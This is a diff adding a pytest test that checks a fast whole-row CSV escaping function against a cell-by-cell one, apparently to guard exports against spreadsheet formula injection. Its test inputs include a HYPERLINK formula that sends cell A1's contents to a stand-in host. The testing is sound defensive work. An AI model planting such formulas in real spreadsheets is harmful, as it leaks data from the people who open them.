@@ -2,12 +2,13 @@
 
 import csv
 import io
+import itertools
 from datetime import date
 
 import pytest
 from openpyxl import Workbook, load_workbook
 
-from destreg.lib.spreadsheets import csv_row, xlsx_row
+from destreg.lib.spreadsheets import csv_row, csv_text_row, xlsx_row
 
 TYPED = ['=HYPERLINK("http://x/?q="&A1,"点击")', "+86 138", "-1", "@x", "\tx", "\rx", "#N/A"]
 
@@ -42,3 +43,13 @@ def test_csv_prefixes_what_could_start_a_formula_and_keeps_numbers():
     text = io.StringIO()
     csv.writer(text).writerow(row)
     assert next(csv.reader(io.StringIO(text.getvalue())))[7] == "-42"
+
+
+def test_the_whole_row_check_agrees_with_the_cell_by_cell_one():
+    """csv_text_row (the export's fast way) prefixes exactly the cells csv_row does, wherever
+    they stand in the row, even next to a NUL or a formula in the middle of a text."""
+    cells = ["", "普通", "a=b", "x\x00=y", "\x00", *TYPED, "=1"]
+    for row in itertools.product(cells, repeat=3):
+        assert csv_text_row(list(row)) == csv_row(row), row
+    assert csv_text_row(["=1", 5, None]) == ["'=1", 5, None]  # not only texts: cell by cell
+    assert csv_text_row(["学号", "2026-06-30"]) == ["学号", "2026-06-30"]
